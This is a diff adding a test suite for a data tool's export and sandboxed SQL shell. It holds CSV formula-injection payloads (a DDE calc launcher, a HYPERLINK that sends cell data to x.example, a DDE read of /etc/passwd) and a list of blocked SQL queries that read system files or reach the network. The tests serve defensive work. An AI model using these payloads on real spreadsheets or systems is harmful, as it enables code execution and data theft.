@@ -1,0 +1,346 @@
+"""export and `vigie sql`: answers whole, safe in a spreadsheet, nothing else reached."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+from collections.abc import Iterator
+from datetime import UTC, date, datetime
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import openpyxl
+import pyarrow.parquet as pq
+import pytest
+from typer.testing import CliRunner
+
+from pipelines import analyst, cli, contract, export, publish, sql_shell
+from pipelines.errors import VigieError
+from tests.pipelines.staged import SEEN, mention, score, stored
+
+HOSTILE = [
+    "=1+1",
+    '=cmd|"/c calc"!A1',
+    '=HYPERLINK("http://x.example/?"&A1,"clic")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    '"=1+1"',
+    "＝1+1",
+    "a;=1+1",
+    'a,"=1+1"',
+    "#N/A",
+    "{=1+1}",
+    "'=1+1",
+    "=DDE(\"soffice\";\"/etc/passwd\";\"x\")",
+    "\x00=1+1\x07",
+    "\u202e=1+1",
+]  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A home whose analysts' file holds every hostile text, and one own post."""
+    home = tmp_path_factory.mktemp("home")
+    mentions = [mention(n, text=text) for n, text in enumerate(HOSTILE, 1)]
+    mentions.append(mention(99, is_own=True, view_count=7))
+    with stored(home, mentions, scores=map(score, mentions)):
+        pass
+    publish.publish(home, made_at=SEEN)
+    return home
+
+
+@pytest.fixture
+def connection(home: Path) -> Iterator[duckdb.DuckDBPyConnection]:
+    """That file, open for questions."""
+    with analyst.opened(home) as connection:
+        yield connection
+
+
+ROWS = """\
+select text, like_count, -3 as minus, -0.5::double as part, true as yes, day_on, published_at,
+    topics_of.topics, 9007199254740993 as long
+from mention_public, (select ['=1+1', 'T09'] as topics) as topics_of
+where not is_own order by published_at desc
+"""
+
+
+def _written(
+    connection: duckdb.DuckDBPyConnection, to: Path, query: str = ROWS, **more: Any
+) -> int:
+    return export.export(connection, query, to, name="", now=SEEN, **more)
+
+
+def test_a_csv_is_whole_and_no_cell_begins_a_formula(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    to = tmp_path / "a.csv"
+    assert _written(connection, to) == len(HOSTILE)
+    content = to.read_bytes()
+    assert content.startswith(b"\xef\xbb\xbf")
+    for separator in ",;\t":  # as a spreadsheet of another country parts it
+        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=separator):
+            for cell in row:
+                bare = cell.strip().strip("\"'").strip()
+                assert not cell.strip().startswith(("=", "+", "@", "＝")), cell
+                assert bare[:1] != "=" or cell.strip().startswith(("'", "\"'")), cell
+    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    assert [row["minus"] for row in rows] == ["-3"] * len(HOSTILE)
+    assert rows[0]["part"] == "-0.5"
+    assert rows[0]["long"] == "9007199254740993"
+
+
+def test_beside_a_csv_stands_what_it_rests_on(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    _written(connection, tmp_path / "a.csv", separator=";")
+    told = json.loads((tmp_path / "a.csv-metadata.json").read_text(encoding="utf-8"))
+    assert told["url"] == "a.csv"
+    assert told["dialect"]["delimiter"] == ";"
+    assert told["vigie:rows"] == len(HOSTILE)
+    assert told["vigie:query"] == ROWS
+    assert told["vigie:institution"] == "Ville de Valbrume"
+    assert told["vigie:contract"] == contract.version()
+    assert told["vigie:asked_at"] == "2026-11-20T10:15:00Z"
+    assert "is_own" in told["vigie:caveats"]
+    assert "RGPD" in told["vigie:law"]
+    described = {c["titles"]: c.get("dc:description") for c in told["tableSchema"]["columns"]}
+    assert described["text"] == "Masked text; empty once it has expired."
+
+
+def test_an_xlsx_holds_texts_as_texts_and_numbers_as_numbers(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    to = tmp_path / "a.xlsx"
+    _written(connection, to)
+    book = openpyxl.load_workbook(to)
+    assert book.sheetnames == ["data", "about"]
+    for sheet in book:
+        assert {c.data_type for row in sheet for c in row} <= {"s", "inlineStr", "n", "b", "d"}
+    head, *rows = book["data"].iter_rows()
+    texts = [row[0].value for row in rows]
+    shown = [text.replace("\x00", "\ufffd").replace("\x07", "\ufffd") for text in HOSTILE]
+    assert sorted(texts) == sorted(t.replace("\r", "\n") for t in shown)
+    assert all(row[0].quotePrefix for row in rows)
+    first = dict(zip([c.value for c in head], rows[0], strict=True))
+    assert (first["minus"].value, first["part"].value, first["yes"].value) == (-3, -0.5, True)
+    assert first["day_on"].value.date() == date(2026, 11, 20)
+    assert first["long"].value == "9007199254740993"
+    assert first["topics"].value == '["=1+1", "T09"]'
+    about = {row[0]: row[1] for row in book["about"].values if row[0]}
+    assert about["query"].strip().startswith("select text") or ROWS.startswith(about["query"])
+    assert about["contract"] == contract.version()
+    assert about["rows"] == str(len(HOSTILE))
+
+
+def test_rows_past_the_end_of_a_sheet_go_to_the_next(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    to = tmp_path / "a.xlsx"
+    query = "select i from range(25) as t (i) order by i"
+    assert _written(connection, to, query, sheet_rows=11) == 25
+    book = openpyxl.load_workbook(to)
+    assert book.sheetnames == ["data", "data 2", "data 3", "about"]
+    found = [row[0] for name in book.sheetnames[:3] for row in list(book[name].values)[1:]]
+    assert found == list(range(25))
+    assert [next(book[name].values)[0] for name in book.sheetnames[:3]] == ["i"] * 3
+
+
+def test_a_text_that_no_cell_can_hold_is_an_error_and_leaves_no_file(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    with pytest.raises(VigieError, match=r"'long' holds a text of 40000 .*\.csv or \.parquet"):
+        _written(connection, tmp_path / "a.xlsx", "select repeat('é', 40000) as long")
+    assert list(tmp_path.iterdir()) == []
+    assert _written(connection, tmp_path / "a.csv", "select repeat('é', 40000) as long") == 1
+
+
+def test_a_parquet_keeps_types_texts_and_what_it_rests_on(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    to = tmp_path / "a.parquet"
+    _written(connection, to)
+    table = pq.read_table(to)
+    assert sorted(table["text"].to_pylist()) == sorted(HOSTILE)
+    assert str(table.schema.field("published_at").type) == "timestamp[us, tz=UTC]"
+    told = {key.decode(): value.decode() for key, value in table.schema.metadata.items()}
+    assert told["vigie.query"] == ROWS
+    assert told["vigie.contract"] == contract.version()
+    assert table.schema.field("text").metadata[b"comment"].startswith(b"Masked")
+
+
+@pytest.mark.parametrize("ending", ["csv", "xlsx", "parquet"])
+def test_an_answer_without_rows_is_a_file_with_its_columns(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path, ending: str
+) -> None:
+    to = tmp_path / f"a.{ending}"
+    assert _written(connection, to, "select text from mention_public where false") == 0
+    if ending == "xlsx":
+        assert list(openpyxl.load_workbook(to)["data"].values) == [("text",)]
+    elif ending == "csv":
+        assert to.read_text(encoding="utf-8-sig").strip() == '"text"'
+    else:
+        assert pq.read_schema(to).names == ["text"]
+
+
+def test_an_ending_that_is_none_says_which_there_are(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    with pytest.raises(VigieError, match=r"choose \.csv, \.parquet or \.xlsx"):
+        _written(connection, tmp_path / "a.ods")
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "select * from read_csv('/etc/passwd')",
+        "select content from read_text('/etc/hostname')",
+        "select * from glob('/etc/*')",
+        "from '/etc/passwd'",
+        "copy mention_public to '/tmp/x.csv'",
+        "export database '/tmp/x'",
+        "attach '/tmp/x.db'",
+        "install httpfs",
+        "load '/tmp/x.duckdb_extension'",
+        "delete from mention_public",
+        "create table x as select 1",
+        "set enable_external_access = true",
+        "set lock_configuration = false",
+        "pragma threads = 64",
+        "select * from read_parquet('https://example.org/x.parquet')",
+    ],
+)
+def test_nothing_but_the_file_can_be_reached_or_changed(
+    connection: duckdb.DuckDBPyConnection, query: str
+) -> None:
+    with pytest.raises(VigieError) as error:
+        analyst.run(connection, query)
+    assert len(str(error.value)) > 20
+
+
+def test_a_mistake_is_told_with_what_to_do(connection: duckdb.DuckDBPyConnection) -> None:
+    with pytest.raises(VigieError, match=r"\.tables lists the tables"):
+        analyst.run(connection, "from mention")
+    with pytest.raises(VigieError, match="there is nothing to ask"):
+        analyst.run(connection, " -- nothing ")
+    with pytest.raises(VigieError, match=r"try .*tone_by_day"):
+        analyst.asked(connection, "tone_by_dya")
+    with pytest.raises(VigieError, match="no name of a parameter"):
+        analyst.set_variables(connection, {"a = 1; drop": "x"})
+    analyst.set_variables(connection, {"said": "l'eau'; select 1 --"})
+    found = analyst.run(connection, "select getvariable('said')").fetchall()
+    assert found == [("l'eau'; select 1 --",)]
+
+
+def _said(home: Path, lines: list[str], capsys: pytest.CaptureFixture[str]) -> str:
+    with analyst.opened(home) as connection:
+        sql_shell.talk(sql_shell.Shell(connection, lambda: SEEN), lines)
+    return capsys.readouterr().out
+
+
+def test_the_shell_lists_asks_shows_and_writes(
+    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    to = tmp_path / "it is.csv"
+    lines = [
+        ".tables", ".schema own_post", ".queries", ".macros", ".help",
+        "select count(*) as n", "  from mention_public;", f".export '{to}'",
+        ".run own_posts", ".nothing", ".schema nowhere", "selct 1;", ".quit", ".tables",
+    ]  # fmt: skip
+    said = _said(home, lines, capsys)
+    for word in ("mention_public", "engagement_rate", "tone_by_day", "last_days", ".export FILE"):
+        assert word in said
+    assert "1 rows are written" in said
+    assert to.read_text(encoding="utf-8-sig").split() == ['"n"', str(len(HOSTILE) + 1)]
+    assert "there is no .nothing" in said
+    assert "there is no table 'nowhere'" in said
+    assert "Parser Error" in said
+    assert said.count("alert_log") == 1
+
+
+def test_the_shell_prints_no_control_character_of_a_stranger(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    said = _said(home, ["select text from mention_public;"], capsys)
+    assert not [c for c in said if not c.isprintable() and c != "\n"]
+
+
+def test_the_shell_says_that_there_are_more_rows(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert "The first 50 rows" in _said(home, ["select i from range(51) as t (i);"], capsys)
+    assert "The first" not in _said(home, ["select i from range(50) as t (i);"], capsys)
+
+
+def test_the_commands_ask_and_write(home: Path, tmp_path: Path) -> None:
+    runner, at = CliRunner(), ["--home", str(home)]
+    asked = runner.invoke(cli.app, ["sql", "select 41 + 1 as answer", *at])
+    assert "42" in asked.output
+    query = tmp_path / "q.sql"
+    query.write_text("select 1 as a, '=x' as b", encoding="utf-8")
+    whole = runner.invoke(cli.app, ["sql", "--csv", "-f", str(query), *at])
+    assert whole.stdout.lstrip("\ufeff") == '"a","b"\n1,"\'=x"\n'
+    to = tmp_path / "own.xlsx"
+    done = runner.invoke(cli.app, ["export", "own_posts", "--to", str(to), *at])
+    assert "1 rows are written" in done.output
+    assert openpyxl.load_workbook(to)["about"]["B2"].value == "own_posts"
+    with pytest.raises(VigieError, match="say what to export"):
+        runner.invoke(cli.app, ["export", "--to", str(to), *at], catch_exceptions=False)
+
+
+def test_a_home_without_the_file_says_what_makes_it(tmp_path: Path) -> None:
+    with pytest.raises(VigieError, match="vigie upkeep"), analyst.opened(tmp_path):
+        pass
+
+
+def test_a_file_of_an_older_version_says_so(tmp_path: Path) -> None:
+    (tmp_path / "published").mkdir()
+    duckdb.connect(str(tmp_path / analyst.FILE)).close()
+    with (
+        analyst.opened(tmp_path) as connection,
+        pytest.raises(VigieError, match="older version"),
+    ):
+        analyst.about(connection)
+
+
+@pytest.mark.slow
+def test_a_spreadsheet_that_opens_the_files_computes_nothing(
+    connection: duckdb.DuckDBPyConnection, tmp_path: Path
+) -> None:
+    """LibreOffice reads each file and writes it again as CSV: the texts must come back as texts."""
+    office = os.environ.get("VIGIE_SOFFICE") or shutil.which("soffice")
+    if office is None:
+        pytest.skip("LibreOffice is not installed (VIGIE_SOFFICE names it elsewhere)")
+    for ending in ("csv", "xlsx"):
+        to = tmp_path / f"in.{ending}"
+        _written(connection, to)
+        subprocess.run(
+            [office, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
+             "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
+             "--outdir", str(tmp_path / ending), str(to)],
+            check=True, capture_output=True, timeout=200,
+        )  # fmt: skip
+        text = (tmp_path / ending / "in.csv").read_text(encoding="utf-8")
+        cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
+        assert len(cells) == len(HOSTILE)
+        assert not {"2", "1", "Err:", "#NAME?", "#REF!", "#VALUE!"} & set(cells), cells
+        assert sum("1+1" in cell for cell in cells) == sum("1+1" in text for text in HOSTILE)
+
+
+def test_what_is_typed_is_asked_on_a_terminal_only(home: Path) -> None:
+    done = subprocess.run(
+        [sys.executable, "-m", "pipelines.cli", "sql", "--home", str(home)],
+        input="select 6 * 7 as answer;\n", capture_output=True, text=True, check=True,
+    )  # fmt: skip
+    assert "42" in done.stdout
+    assert datetime.now(UTC) > SEEN
